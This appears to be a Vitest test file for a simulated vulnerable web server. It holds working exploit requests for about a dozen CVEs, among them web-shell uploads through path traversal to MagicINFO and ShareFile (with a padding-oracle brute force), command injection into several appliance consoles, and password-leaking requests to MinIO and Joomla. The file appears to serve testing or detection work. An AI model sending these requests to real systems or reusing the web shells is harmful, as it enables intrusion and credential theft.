/** Consoles and panels: commands in a field, files kept where they are served, passwords told. */

import { expect, it } from 'vitest';
import { stranger, webMachine } from '../../../../test/support/http-visitor.ts';

const id = /uid=\d+\(/;
const machine = webMachine('ubuntu-web', [
  'cisco-ise',
  'ivanti-csa',
  'kemp',
  'aviatrix',
  'hpe-oneview',
  'cwp',
  'magicinfo',
  'citrix-sharefile',
  'minio',
  'joomla',
]);
const ran = (part: string): unknown =>
  expect.objectContaining({ kind: 'command', input: expect.stringContaining(part) });

it('MagicINFO and ShareFile keep a page that then runs commands (CVE-2024-7399, CVE-2023-24489)', () => {
  const visitor = stranger(machine);
  const echo =
    '<%@ page import="java.util.Base64" %><% String b = request.getParameter("input"); out.print(new String(Base64.getDecoder().decode(b))); %>';
  const sent = visitor.send(
    'POST',
    '/MagicInfo/servlet/SWUpdateFileUploader?fileName=./../../../../../../server/m.jsp&deviceType=abc&deviceModelName=test&swVer=1',
    {},
    echo,
  );
  expect(sent.cves).toContain('CVE-2024-7399');
  expect(visitor.get(`/MagicInfo/m.jsp?input=${Buffer.from('q4711').toString('base64')}`).body).toContain(
    'q4711',
  );
  const page =
    '<%@ Page Language="C#" %><script runat="server">void Page_Load() { Process.Start("sh", Request["c1"]); }</script>';
  const upload = (parent: string) =>
    visitor.send(
      'POST',
      `/documentum/upload.aspx?parentid=${encodeURIComponent(parent)}&raw=1&unzip=on&uploadid=a%5C..%5C..%5C..%5Ccifs&filename=s.aspx`,
      {},
      page,
    );
  expect(upload('AAAA').body).toContain('Padding is invalid');
  const tries = Array.from({ length: 256 }, (_, octet) =>
    upload(
      Buffer.from([
        ...Array.from({ length: 15 }, () => 65),
        octet,
        ...Array.from({ length: 16 }, () => 66),
      ]).toString('base64'),
    ),
  );
  const right = tries.filter(({ body }) => !body.includes('Padding'));
  expect(right.length).toBe(1);
  const [kept = upload('')] = right;
  expect(kept.cves).toContain('CVE-2023-24489');
  expect(kept.body).toBe('ERROR: The method or operation is not implemented.');
  expect(visitor.get('/cifs/s.aspx?c1=id').body).toMatch(id);
});

it('consoles run what stands in a field (CVE-2025-20281, CVE-2024-8190, CVE-2024-1212, CVE-2024-50603, CVE-2025-37164, CVE-2025-48703)', () => {
  const visitor = stranger(machine);
  const list =
    '\xac\xed\x00\x05ur\x00\x13[Ljava.lang.String;\x7f\x02\x00\x00xp\x00\x00\x00\x02t\x00\x1ax;touch${IFS}/tmp/ise1t\x00\x00';
  const tunnel = visitor.send('POST', '/deployment-rpc/enableStrongSwanTunnel', {}, list);
  expect([tunnel.cves[0], tunnel.body]).toEqual(['CVE-2025-20281', '{}']);
  expect(tunnel.facts).toContainEqual(ran('touch /tmp/ise1'));
  expect(visitor.get('/client/index.php%3F.php/gsb/users.php').body).toMatch(
    /Ivanti Cloud Services Appliance.*User name.*Set Password/,
  );
  const zone = visitor.form(
    '/client/index.php%3F.php/gsb/datetime.php',
    'dateTimeFormSubmitted=1&TIMEZONE=%3Btouch+%2Ftmp%2Fcsa%3B&CYEAR=2024',
  );
  expect(zone.cves).toContain('CVE-2024-8190');
  expect(zone.facts).toContainEqual(ran('touch /tmp/csa'));
  const kemp = visitor.get('/access/set?param=enableapi&value=1', {
    Authorization: 'Basic JztsczsnOmRvZXNub3RtYXR0ZXI=',
  });
  expect([kemp.cves[0], kemp.status]).toEqual(['CVE-2024-1212', 200]);
  expect(kemp.facts).toContainEqual(ran('ls'));
  const cloud = visitor.form(
    '/v1/api',
    'action=list_flightpath_destination_instances&CID=a&account_name=1&region=1&vpc_id_name=1&cloud_type=1|$(touch /tmp/avx)',
  );
  expect(cloud.facts).toContainEqual(ran('touch /tmp/avx'));
  const view = visitor.send(
    'PUT',
    '/rest/id-pools/executeCommand',
    { 'Content-Type': 'application/json' },
    '{"cmd":"touch /tmp/hpe","result":0}',
  );
  expect(view.body).toContain('ExecutableCommand');
  expect(view.facts).toContainEqual(ran('touch /tmp/hpe'));
  const panel = visitor.upload('/alice/index.php?module=filemanager&acc=changePerm', [
    ['fileName', null, '.bashrc'],
    ['currentPath', null, '/home/alice'],
    ['t_total', null, '`touch /tmp/cwp`'],
  ]);
  expect(panel.cves).toContain('CVE-2025-48703');
  expect(panel.facts).toContainEqual(ran('touch /tmp/cwp'));
});

it('MinIO and Joomla tell their passwords (CVE-2023-28432, CVE-2023-23752)', () => {
  const visitor = stranger(machine);
  expect(visitor.send('POST', '/minio/bootstrap/v1/verify').body).toMatch(/"MINIO_ROOT_PASSWORD":"\w{20}"/);
  const configuration = visitor.get('/api/index.php/v1/config/application?public=true');
  expect(configuration.headers).toContain('application/vnd.api+json');
  expect(configuration.body).toMatch(/"links":.*"attributes":.*"password":"\w{16}"/);
});
